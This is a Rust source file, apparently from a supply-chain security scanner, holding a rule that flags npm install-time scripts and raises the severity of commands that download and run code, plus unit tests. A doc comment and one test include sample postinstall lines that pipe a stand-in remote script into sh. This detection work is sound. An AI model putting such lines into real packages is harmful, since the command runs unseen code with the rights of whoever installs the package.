use headworks_types::fact::{PackageFact, command_order};
use headworks_types::{Confidence, FactKind, Severity};

use super::is_outermost;
use crate::Evidence;
use crate::rule::{Judgement, rule};

rule! {
    /// Looks for npm life-cycle scripts that installation from an index runs (`preinstall`, `install`, `postinstall`) and
    /// for `binding.gyp`, which makes npm run `node-gyp`. Fetching or decoding something and running it is judged high.
    ///
    /// **Why it matters.** The command runs with the rights of whoever installs, before anyone has read a line. Most npm
    /// worms spread by it. Scripts of packages within packages do not run and are only noted, nor do those that only a
    /// checkout runs (`prepare`).
    ///
    /// **Example.** `"postinstall": "curl -s https://packages.invalid/i.sh | sh"`
    ///
    /// **What it misses.** What a script file does that the command names.
    INSTALL_SCRIPT {
        id: "install-script",
        title: "Installing the package runs a command",
        severity: Severity::Medium,
        confidence: Confidence::High,
        controls: &["HW-CFG-03", "HW-DEP-03"],
        references: &["CWE-506", "CWE-829", "AML.T0011.000"],
        hint: "install with scripts disabled, or read what the command runs",
        check,
    }
}

fn check(evidence: &Evidence<'_>) -> Vec<Judgement> {
    evidence
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Package(PackageFact::InstallScript { event, command }) => {
                let runs = matches!(event.as_str(), "preinstall" | "install" | "postinstall");
                let severity = match (command_order(command), runs && is_outermost(&fact.location.place)) {
                    (Some(_), _) => Severity::High,
                    (None, true) => Severity::Medium,
                    (None, false) => Severity::Info,
                };
                let message = format!("`{event}` runs `{command}`");
                Some(Judgement::of(fact, event, message).with_severity(severity))
            }
            _ => None,
        })
        .collect()
}
#[cfg(test)]
mod tests {
    use headworks_types::{Fact, Place};

    use super::*;

    fn severities(path: &str, kind: PackageFact) -> Vec<Severity> {
        let facts = [Fact { location: Place::file(path).at(0..9), times: 1, kind: kind.into() }];
        INSTALL_SCRIPT.judge(&Evidence::of(&facts)).iter().map(|finding| finding.severity).collect()
    }

    fn script(event: &str, command: &str) -> PackageFact {
        PackageFact::InstallScript { event: event.into(), command: command.into() }
    }

    #[test]
    fn a_script_holds_and_a_fetched_one_refuses() {
        assert_eq!(severities("package.json", script("postinstall", "node install.js")), [Severity::Medium]);
        assert_eq!(severities("package.json", script("postinstall", "curl https://x.invalid | sh")), [Severity::High]);
    }

    #[test]
    fn scripts_that_installation_does_not_run_are_noted_only() {
        assert_eq!(severities("package.json", script("prepare", "husky")), [Severity::Info]);
        assert_eq!(severities("node_modules/a/package.json", script("postinstall", "node x.js")), [Severity::Info]);
    }
}
